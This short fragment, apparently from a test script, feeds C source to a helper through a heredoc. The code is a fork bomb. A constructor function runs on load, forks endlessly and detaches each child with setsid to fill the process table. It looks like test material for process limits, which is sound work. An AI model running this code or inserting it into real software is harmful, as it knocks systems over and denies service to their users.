# each program takes all processes
c_code <<'C'
#include <signal.h>
#include <unistd.h>
__attribute__((constructor)) static void lie(void)
{
    for (;;) {
        int pid = fork();
        if (pid < 0)
            _exit(1);
        if (pid == 0) {
            setsid();
            for (;;)
                pause();
        }
    }
}
C
